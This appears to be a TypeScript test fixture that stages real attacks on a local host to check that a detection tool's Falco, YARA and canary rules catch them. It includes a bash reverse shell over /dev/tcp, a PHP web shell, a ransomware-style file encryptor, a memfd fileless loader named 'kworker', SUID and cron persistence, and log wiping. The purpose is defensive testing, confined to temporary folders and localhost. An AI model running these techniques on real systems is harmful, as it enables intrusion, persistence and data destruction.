import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'

/** One thing that an attacker does on a host, done for real. */
export interface HostAttack {
  readonly name: string
  /** Title of the rule that is to find it. */
  readonly rule: string
  /** Does it. Resolves once it was stopped, where it can be; `stopped` tells by whom it ended otherwise. */
  readonly act: () => { readonly stopped?: Promise<unknown> }
}

export interface AttackGround {
  readonly attacks: readonly HostAttack[]
  /** Another one of each kind that is stopped, for later. */
  readonly reverseShell: () => Promise<unknown>
  readonly knownTool: (name: string) => Promise<unknown>
  readonly settings: object
  /** Ids of the rules that may stop something here. The host is that of the tests: nothing but what is done here may fit them. */
  readonly stop: readonly string[]
  /** How many files the encryption reached, of how many. */
  readonly encrypted: () => readonly [done: number, all: number]
  readonly close: () => void
}

/**
 * A web server in Perl that runs what a web shell in its root says, under the name of PHP's: nothing is made up but the language.
 * Perl is on every Debian.
 */
const WEB_SERVER = `
use IO::Socket::INET; $| = 1; $SIG{CHLD} = 'IGNORE';
my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', Listen => 5, ReuseAddr => 1) or die; print $s->sockport, "\\n";
while (my $c = $s->accept) {
  my $line = <$c>; my ($file, $cmd) = $line =~ m{^GET /(\\S+?)\\?c=(\\S*)}; $cmd =~ s/%([0-9A-F]{2})/chr hex $1/ge;
  if (-e "$ARGV[0]/$file" && fork() == 0) { exec '/bin/sh', '-c', $cmd; }
  print $c "HTTP/1.0 200 OK\\r\\n\\r\\n"; close $c;
}`

/** Encrypts what is in its folder, file by file, as ransomware does: in place, then under a new name. */
const ENCRYPT = `
const fs = require('node:fs'), c = require('node:crypto')
for (const name of fs.readdirSync('.').sort()) {
  const fd = fs.openSync(name, 'r+'), plain = fs.readFileSync(name), key = c.randomBytes(32)
  const cipher = c.createCipheriv('aes-256-ctr', key, c.randomBytes(16))
  const out = Buffer.concat([cipher.update(plain), cipher.final()])
  fs.writeSync(fd, out, 0, out.length, 0); fs.fsyncSync(fd)
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20)
  fs.closeSync(fd); fs.renameSync(name, name + '.locked')
}
setInterval(() => {}, 1000)`

/** A program that runs from memory: memfd_create(2), filled with sleep, started by its descriptor. */
const FROM_MEMORY = `
$^F = 255; my $n = $ENV{MEMFD} + 0; my $name = 'kworker'; my $fd = syscall($n, $name, 0); die $! if $fd < 0;
open(my $m, '>&=', $fd) or die; open(my $i, '<', '/bin/sleep') or die; binmode $i; binmode $m; use IO::Handle; { local $/; print {$m} scalar <$i>; } $m->flush;
exec "/proc/self/fd/$fd", '60'`
const MEMFD_CREATE = { x64: '319', arm64: '279' }[process.arch as 'x64' | 'arm64']

/** What the YARA rule of this ground knows, and nothing else is: a file of this size that begins so. */
const KNOWN_TOOL = `kanpeki-${'scenario'}-tool ${'x'.repeat(100)}`
export const YARA_RULE = `rule Kanpeki_Scenario_Tool {
  meta: severity = "high" mitre_attack = "T1105" stop = "quarantine"
  strings: $name = "kanpeki-scenario-tool "
  condition: $name at 0 and filesize == ${KNOWN_TOOL.length}
}
`

/** Two rules as Falco's own are written, with its macros; they fit nothing but what is done here. */
export const FALCO_RULES = `
- macro: spawned_process
  condition: (evt.type in (execve, execveat))
- macro: open_write
  condition: (evt.type in (open,openat,openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0)
- list: scenario_programs
  items: [kanpeki-probe]
- rule: Scenario program dumps credentials
  desc: A program of the list is run with an option that reads credentials
  condition: spawned_process and proc.name in (scenario_programs) and proc.args contains "--dump-credentials"
  output: Credentials dumped (user=%user.name command=%proc.cmdline parent=%proc.pname)
  priority: CRITICAL
- rule: Scenario file written
  desc: A file is written that only this test writes
  condition: open_write and fd.filename startswith zz-kanpeki-falco
  output: File written (file=%fd.name)
  priority: ERROR
`

const FILES = 200

const readIf = (path: string): string | undefined => {
  const text = existsSync(path) ? readFileSync(path, 'utf8').trim() : ''
  return text === '' ? undefined : text
}
/** Looks each hundredth of a second: the figures are read off the clock. */
async function soon<T>(check: () => T | undefined): Promise<T> {
  for (const until = Date.now() + 30_000; Date.now() < until; await new Promise((resolve) => setTimeout(resolve, 10))) {
    const found = check()
    if (found !== undefined) return found
  }
  throw new Error('waited 30 s in vain')
}

export function attackGround(folder: string): AttackGround {
  const root = join(folder, 'www')
  const guard = join(folder, 'share')
  const logs = join(folder, 'log')
  const inbox = join(folder, 'inbox')
  const kept = join(folder, 'kept')
  for (const one of [join(root, 'uploads'), guard, logs, inbox, kept]) mkdirSync(one, { recursive: true })
  for (let i = 0; i < FILES; i++) writeFileSync(join(guard, `plan-${i}.txt`), 'All work and no play. '.repeat(800))
  writeFileSync(join(logs, 'auth.log'), 'Accepted publickey for root\n'.repeat(50))
  const children: ChildProcess[] = []
  const away: string[] = []
  const ended = (child: ChildProcess): Promise<unknown> => {
    children.push(child)
    return new Promise((resolve) => child.once('close', (code, signal) => resolve(signal ?? code)))
  }
  const listener: Server = createServer((socket) => socket.on('error', () => {}))
  listener.listen(0, '127.0.0.1')
  const server = join(folder, 'php-fpm8.2')
  copyFileSync(spawnSync('readlink', ['-f', '/usr/bin/perl']).stdout.toString().trim(), server)
  const web = spawn(server, ['-e', WEB_SERVER, root], { stdio: ['ignore', 'pipe', 'inherit'] })
  children.push(web)
  const port = new Promise<string>((resolve) => web.stdout.once('data', (part: Buffer) => resolve(part.toString().trim())))

  const reverseShell = (): Promise<unknown> => {
    const { port: to } = listener.address() as { port: number }
    // From a file, so that no command line says it; without start-up files, which start shells of their own on the same streams.
    writeFileSync(join(folder, 'update.sh'), `exec bash --norc -i >/dev/tcp/127.0.0.1/${to} 0>&1 2>&1\n`)
    return ended(spawn('bash', [join(folder, 'update.sh')], { stdio: 'ignore' }))
  }
  const knownTool = (name: string): Promise<unknown> => {
    writeFileSync(join(inbox, name), KNOWN_TOOL)
    return gone(join(inbox, name))
  }
  const dropped = join(root, 'uploads', 'shell.php')
  const cron = '/etc/cron.d/zz-kanpeki-scenario'
  const suid = `/tmp/.kanpeki-scenario-${process.pid}`
  away.push(cron, suid)
  const gone = (path: string): Promise<unknown> => soon(() => (existsSync(path) ? undefined : true))
  const attacks: HostAttack[] = [
    {
      name: 'web shell called',
      rule: 'Web server starts a shell (Linux)',
      act: () => {
        writeFileSync(join(root, 'old.php'), '')
        const stopped = port.then(async (at) => {
          const command = encodeURIComponent(`id > /dev/null; echo $$ > ${folder}/shell.pid; sleep 60`)
          await fetch(`http://127.0.0.1:${at}/old.php?c=${command}`)
          const pid = await soon(() => readIf(join(folder, 'shell.pid')))
          await soon(() => (existsSync(`/proc/${pid}`) ? undefined : true))
        })
        return { stopped }
      },
    },
    {
      name: 'web shell dropped',
      rule: 'Web shell in a web root',
      act: () => {
        writeFileSync(dropped, '<?php system($_GET["c"]); ?>')
        return { stopped: gone(dropped) }
      },
    },
    { name: 'reverse shell', rule: 'Shell whose input is a network connection', act: () => ({ stopped: reverseShell() }) },
    {
      name: 'encryption, by a canary',
      rule: 'Canary file changed or removed',
      act: () => ({ stopped: ended(spawn(process.execPath, ['-e', ENCRYPT], { cwd: guard, stdio: 'ignore' })) }),
    },
    {
      name: 'program from memory',
      rule: 'Program run from memory or a deleted file',
      act: () => {
        const env = { ...process.env, MEMFD: MEMFD_CREATE ?? '' }
        void ended(spawn('perl', ['-e', FROM_MEMORY], { env, stdio: ['ignore', 'ignore', 'inherit'] }))
        return {}
      },
    },
    {
      name: 'tool that a YARA rule knows',
      rule: 'Kanpeki_Scenario_Tool',
      act: () => ({ stopped: knownTool('tool.bin') }),
    },
    {
      name: 'program that a Falco rule names',
      rule: 'Scenario program dumps credentials',
      act: () => {
        const probe = join(folder, 'kanpeki-probe')
        copyFileSync('/bin/sh', probe)
        void ended(spawn(probe, ['-c', 'sleep 5; :', 'x', '--dump-credentials'], { stdio: 'ignore' }))
        return {}
      },
    },
    {
      name: 'file that a Falco rule names',
      rule: 'Scenario file written',
      act: () => {
        writeFileSync(join(kept, `zz-kanpeki-falco-${process.pid}`), '# nothing\n')
        return {}
      },
    },
    {
      name: 'SUID bit set',
      rule: 'Program given the right to run as its owner',
      act: () => {
        copyFileSync('/bin/true', suid)
        chmodSync(suid, 0o4755)
        return {}
      },
    },
    {
      name: 'cron job written',
      rule: 'Cron job written',
      act: () => {
        mkdirSync('/etc/cron.d', { recursive: true })
        writeFileSync(cron, '# nothing\n')
        return {}
      },
    },
    {
      name: 'log cleared',
      rule: 'Log file emptied or removed',
      act: () => {
        truncateSync(join(logs, 'auth.log'), 0)
        return {}
      },
    },
  ]
  return {
    attacks,
    reverseShell,
    knownTool,
    stop: [
      'c70e1137-ea67-471b-b451-a3fb4c5617a5',
      '07aecd5e-89d3-42cd-abb5-ed810ca0611b',
      'd06b7acf-3a06-4aaa-83e1-fba54daeb707',
      '7abcc1bc-0ca8-40ef-a9a9-d6537b7df82a',
      'yara-Kanpeki_Scenario_Tool',
    ],
    settings: {
      watch: ['/etc/cron.d', kept],
      ignore: [],
      journal: false,
      webRoots: [root],
      guard: [guard],
      canaries: true,
      logs: [logs],
      yaraFolders: [inbox],
    },
    encrypted: () => [readdirSync(guard).filter((name) => name.endsWith('.locked')).length, FILES],
    close: () => {
      for (const child of children) child.kill('SIGKILL')
      listener.close()
      for (const path of away) rmSync(path, { force: true })
    },
  }
}
